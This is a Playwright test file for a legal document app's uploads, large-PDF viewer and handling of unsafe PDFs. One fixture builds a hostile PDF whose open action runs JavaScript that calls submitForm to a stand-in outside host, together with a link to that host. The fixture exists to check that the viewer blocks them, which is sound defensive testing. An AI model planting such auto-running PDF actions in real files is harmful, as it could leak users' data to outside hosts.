import { randomBytes } from 'node:crypto'
import { readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page, TestInfo } from '@playwright/test'
import { lockedPdf, pdfOf, pdfPages } from '../apps/api/test/files/pdf'
import { zipOf } from '../apps/api/test/files/zip'
import { addWindow, documentsOf, openTab, put, queued, row } from './documents'
import { expectAccessible } from './fixtures'
import { expect, refusing, signIn, test } from './seeded'

const title = 'Auto de infração ambiental'

/** What lies in the folder of uploaded files. */
const filesIn = (folder: string) =>
  readdirSync(join(folder, 'files'), { recursive: true, withFileTypes: true }).filter((entry) =>
    entry.isFile(),
  ).length

function largeFile(info: TestInfo, name: string): string {
  const path = info.outputPath(name)
  writeFileSync(path, zipOf([{ name: 'gravacao.bin', data: randomBytes(24 * 1024 * 1024) }]))
  return path
}

test('24 MB with its progress, and the same cancelled: nothing stays behind', async ({
  page,
  lavra,
}, info) => {
  await signIn(page, 'helena')
  const caseId = await openTab(page, title)
  const before = { rows: (await documentsOf(page, caseId)).length, files: filesIn(lavra.dataDir) }
  const line = await page.context().newCDPSession(page)
  const slow = (megabytes: number) =>
    line.send('Network.emulateNetworkConditions', {
      offline: false,
      latency: 0,
      downloadThroughput: -1,
      uploadThroughput: megabytes * 1024 * 1024,
    })

  await slow(8)
  const path = largeFile(info, 'audiência.zip')
  const progress = await watchProgress(page, 'Envio de audiência.zip')
  await page.getByRole('button', { name: 'Adicionar documentos' }).click()
  await page.getByLabel('Arquivos', { exact: true }).setInputFiles(path)
  await addWindow(page).getByRole('button', { name: 'Adicionar documento' }).click()
  await expect(page.getByRole('progressbar', { name: 'Envio de audiência.zip' })).toBeVisible()
  await expect(addWindow(page)).toBeHidden({ timeout: 60_000 })
  const between = new Set(await progress())
  expect(between.size, 'places of the bar between nothing and all').toBeGreaterThanOrEqual(3)
  await expect(row(page, 'audiência')).toContainText(/24\.5\d\d,\d KB/)

  await slow(0.25)
  await page.getByRole('button', { name: 'Adicionar documentos' }).click()
  await page.getByLabel('Arquivos', { exact: true }).setInputFiles(path)
  await addWindow(page).getByRole('button', { name: 'Adicionar documento' }).click()
  await expect(queued(page, 'audiência.zip').getByRole('status').first()).toHaveText(/^Enviando [1-9]\d? %$/)
  await expectAccessible(page, 'documents, sending')
  await addWindow(page).getByRole('button', { name: 'Cancelar envio de audiência.zip' }).press('Enter')
  await expect(queued(page, 'audiência.zip')).toContainText('Envio cancelado. Nada foi salvo.')
  await expect.poll(() => filesIn(lavra.dataDir), 'files after the cancelled upload').toBe(before.files + 1)
  expect((await documentsOf(page, caseId)).length).toBe(before.rows + 1)
  await slow(-1 / 1024 / 1024)
  await addWindow(page).getByRole('button', { name: 'Retirar audiência.zip' }).click()
  await addWindow(page).getByRole('button', { name: 'Cancelar' }).click()
})

/**
 * Notes in the page itself where a bar stands between nothing and all, so that nothing is missed while the
 * test is busy.
 */
async function watchProgress(page: Page, name: string) {
  const seen = await page.evaluateHandle((label) => {
    const values: number[] = []
    const note = () => {
      const value = Number(
        document.querySelector(`[role=progressbar][aria-label="${label}"]`)?.getAttribute('aria-valuenow'),
      )
      if (value > 0 && value < 100) values.push(value)
    }
    new MutationObserver(note).observe(document.body, {
      subtree: true,
      childList: true,
      attributeFilter: ['aria-valuenow'],
    })
    return values
  }, name)
  return () => seen.jsonValue()
}

const pages = (count: number) =>
  Array.from({ length: count }, (_, n) =>
    Array.from(
      { length: 50 },
      (_, line) => `Pagina ${n + 1}, linha ${line + 1}: o depoente confirmou a jornada descrita na inicial.`,
    ),
  )

/** The longest pause of the page's own clock since this was asked last, in milliseconds. */
async function watchFreezes(page: Page) {
  await page.evaluate(() => {
    const watch = window as unknown as { longest: number }
    watch.longest = 0
    let last = performance.now()
    setInterval(() => {
      const now = performance.now()
      watch.longest = Math.max(watch.longest, now - last)
      last = now
    }, 10)
  })
  return () =>
    page.evaluate(() => {
      const watch = window as unknown as { longest: number }
      const { longest } = watch
      watch.longest = 0
      return longest
    })
}

/** Milliseconds that the page may stand still; beside other tests they tell a hang alone. */
const freeze = process.env['TRIALS'] === 'full' ? 500 : 2_000

test('60 pages are read in place without freezing the page', async ({ page }, info) => {
  await signIn(page, 'helena')
  const caseId = await openTab(page, title)
  await put(page, caseId, 'Ata da audiência', 'ata.pdf', pdfPages(pages(60)))
  await page.reload()
  await page.getByRole('tab', { name: 'Documentos' }).click()
  const longest = await watchFreezes(page)
  const gaps: number[] = []
  // On a machine with other work to do the page may have to wait; a freeze of its own comes every time.
  while (gaps.length < 3 && !gaps.some((gap) => gap < freeze)) {
    await readThrough(page)
    gaps.push(Math.round(await longest()))
  }
  info.annotations.push({ type: 'longest freeze', description: `${gaps.join(', ')} ms` })
  console.log(`60 pages: longest freeze ${gaps.join(', ')} ms`)
  expect(Math.min(...gaps)).toBeLessThan(freeze)
  await page.getByRole('button', { name: 'Visualizar Ata da audiência' }).click()
  await expect(page.getByText('Pagina 1, linha 1:')).toBeVisible()
  await expectAccessible(page, 'documents, PDF')
})

async function readThrough(page: Page) {
  await page.getByRole('button', { name: 'Visualizar Ata da audiência' }).click()
  const window = page.getByRole('dialog', { name: 'Ata da audiência' })
  const sheets = window.getByRole('region', { name: 'Páginas de Ata da audiência' })
  const number = window.getByRole('textbox', { name: 'Página' })
  await expect(sheets.getByText('Pagina 1, linha 1:')).toBeVisible()
  await expect(window.getByText('de 60')).toBeVisible()
  await sheets.focus()
  await page.keyboard.press('End')
  await expect(sheets.getByText('Pagina 60, linha 50:')).toBeVisible()
  await expect(number).toHaveValue('60')
  await expect(window.getByRole('button', { name: 'Próxima página' })).toBeDisabled()
  await number.fill('33')
  await number.press('Enter')
  await expect(sheets.getByText('Pagina 33, linha 1:')).toBeVisible()
  await window.getByRole('button', { name: 'Página anterior' }).click()
  await expect(number).toHaveValue('32')
  await sheets.focus()
  await page.keyboard.press('+')
  await page.keyboard.press('+')
  await expect(window.getByText('150 %')).toBeVisible()
  await expect(number, 'the page stays where it is when it is magnified').toHaveValue('32')
  for (let turn = 0; turn < 10; turn++) await sheets.evaluate((box) => box.scrollBy(0, 2_500))
  await expect.poll(async () => Number(await number.inputValue())).toBeGreaterThan(35)
  await expect.poll(() => sheets.locator('canvas').count()).toBeLessThan(8)
  await page.keyboard.press('Escape')
  await expect(window).toBeHidden()
}

/** Asks to run a script, to fetch from elsewhere and to leave, when it is opened and on its only link. */
function hostilePdf(): Buffer {
  const script = '<< /S /JavaScript /JS (app.alert("tomado"); this.submitForm("http://fora.exemplo/")) >>'
  const link =
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://fora.exemplo/) >> >>'
  const page = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [6 0 R] /AA << /O ${script} >> /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>`
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`,
    '<< /Type /Pages /Count 1 /Kids [4 0 R] >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    page,
    { stream: Buffer.from('BT /F1 11 Tf 56 780 Td (Leia-me) Tj ET') },
    link,
  ])
}

refusing('a hostile, a locked and a broken PDF', async ({ page, lavra }) => {
  await signIn(page, 'helena')
  const caseId = await openTab(page, title)
  await put(page, caseId, 'Armadilha', 'armadilha.pdf', hostilePdf())
  await put(page, caseId, 'Trancado', 'trancado.pdf', lockedPdf())
  await page.reload()
  await page.getByRole('tab', { name: 'Documentos' }).click()
  const elsewhere: string[] = []
  page.on(
    'request',
    (request) =>
      !request.url().startsWith(lavra.url) &&
      !request.url().startsWith('blob:') &&
      elsewhere.push(request.url()),
  )
  page.on('dialog', (dialog) => void dialog.dismiss().then(() => elsewhere.push(dialog.message())))
  const show = async (title: string) => {
    await page.getByRole('button', { name: `Visualizar ${title}` }).click()
    return page.getByRole('dialog', { name: title })
  }

  const trap = await show('Armadilha')
  await expect(trap.getByText('Leia-me')).toBeVisible()
  await expect(trap.getByRole('link')).toHaveCount(0)
  await page.keyboard.press('Escape')
  expect(elsewhere, 'calls to elsewhere').toEqual([])
  await expect((await show('Trancado')).getByText('Este PDF é protegido por senha')).toBeVisible()
  await expectAccessible(page, 'documents, locked PDF')
  await page.keyboard.press('Escape')

  await page.route(/\/download$/, (route) => route.fulfill({ body: 'nada' }), { times: 1 })
  await expect((await show('Armadilha')).getByText('Este PDF não pode ser mostrado')).toBeVisible()
  await page.keyboard.press('Escape')
  await page.route(
    /\/download$/,
    (route) =>
      route.fulfill({
        status: 404,
        json: { detail: 'Documento não encontrado', code: 'x', request_id: 'r' },
      }),
    { times: 2 },
  )
  await expect((await show('Armadilha')).getByText('Documento não encontrado')).toBeVisible()
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: 'Baixar Armadilha' }).click()
  await expect(page.getByRole('listitem').getByText('Documento não encontrado')).toBeVisible()
})
